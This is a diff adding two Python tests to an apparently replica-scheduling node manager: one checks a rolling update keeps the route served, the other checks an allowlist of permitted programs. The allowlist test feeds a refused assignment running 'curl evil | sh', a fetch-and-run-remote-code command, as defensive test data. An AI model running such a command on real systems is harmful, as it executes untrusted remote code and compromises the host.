@@ -306,3 +306,52 @@ async def test_an_agent_runs_at_most_its_bound_of_assignments_and_none_without_m
     await NodeManager(NodeResources(), idle).apply(many)  # type: ignore[arg-type]
     assert idle.started == [] and NodeManager(NodeResources(), idle).offer() is None  # type: ignore[arg-type]
     assert math.isclose(nodes.offer().cpu, 1.0)  # type: ignore[union-attr]
+
+
+async def test_a_changed_spec_rolls_out_without_leaving_the_route_empty(world: tuple) -> None:  # type: ignore[type-arg]
+    manager, registry, tracker, _, clock = world
+    tracker.connected(NodeInfo("agent-1"), "peer", registry.snapshot.version)
+    manager.node_offered("agent-1", offer())
+    await manager.tick()
+    old = manager.rows()[0].id
+    manager.node_report("agent-1", [status(old, "ready")])
+    await manager.tick()
+    registry.replace(load_config(MANAGED.replace('"srv"', '"srv2"'), env={}), "test", "v2.yaml", validated=True)
+    await manager.tick()
+    new = next(r.id for r in manager.rows() if r.id != old)
+    assert endpoints(registry) == [old]  # the old one serves while the new one starts
+    manager.node_report("agent-1", [status(old, "ready"), status(new, "starting", "http://127.0.0.1:9002/v1")])
+    clock.now += 5
+    await manager.tick()
+    assert endpoints(registry) == [old] and all(r.draining_since is None for r in manager.rows())
+    manager.node_report("agent-1", [status(old, "ready"), status(new, "ready", "http://127.0.0.1:9002/v1")])
+    await manager.tick()
+    assert endpoints(registry) == [new]  # the old one leaves the route once the new one serves
+    tracker.acked("agent-1", registry.snapshot.version)
+    clock.now += 1
+    await manager.tick()
+    assert [r.id for r in manager.rows()] == [new]
+    (assigned,) = manager.assignments("agent-1")[1]  # type: ignore[index]
+    assert assigned.command[0] == "srv2"
+
+
+async def test_an_agent_runs_only_the_programs_it_allows() -> None:
+    started: list[str] = []
+
+    class Backend:
+        async def start(self, spec: object) -> None:
+            started.append(spec.id)  # type: ignore[attr-defined]
+
+        def status(self, replica_id: str) -> None:
+            return None
+
+    nodes = NodeManager(NodeResources(cpu=1), Backend(), allowed=["/opt/llama/llama-server"])  # type: ignore[arg-type]
+    await nodes.apply([
+        loadreport_pb2.ReplicaAssignment(id="replica-ok", service="s", command=["/opt/llama/llama-server"]),
+        loadreport_pb2.ReplicaAssignment(id="replica-no", service="s", command=["/bin/sh", "-c", "curl evil | sh"]),
+        loadreport_pb2.ReplicaAssignment(id="replica-dk", service="s", command=["x"], backend="docker"),
+    ])
+    assert started == ["replica-ok"]
+    refused = {s.id: s for s in nodes.statuses() if s.id != "replica-ok"}
+    assert refused["replica-no"].state == "failed" and "--managed-allow" in refused["replica-no"].message
+    assert "backend 'docker'" in refused["replica-dk"].message
